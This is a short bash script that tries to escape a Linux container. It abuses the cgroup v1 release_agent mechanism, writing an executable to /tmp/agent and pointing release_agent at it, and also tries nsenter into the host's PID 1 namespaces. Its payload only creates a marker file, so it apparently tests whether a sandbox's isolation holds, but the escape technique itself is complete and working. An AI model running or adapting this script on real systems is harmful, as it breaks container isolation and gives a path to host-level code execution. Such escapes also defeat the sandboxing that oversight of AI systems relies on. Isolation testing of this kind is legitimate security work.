#!/bin/bash
M=/sys/fs/cgroup/memory
mkdir -p $M/x /tmp/m
echo 1 > $M/x/notify_on_release
printf '#!/bin/sh\ntouch /tmp/cgrade-was-here\n' > /tmp/agent
chmod +x /tmp/agent
mount -t cgroup -o memory none /tmp/m 2> /dev/null
for d in $M $M/.. /tmp/m; do
    echo /tmp/agent > $d/release_agent
done 2> /dev/null
nsenter -t 1 -a touch /tmp/cgrade-was-here
sh -c "echo \$\$ > $M/x/cgroup.procs; true"
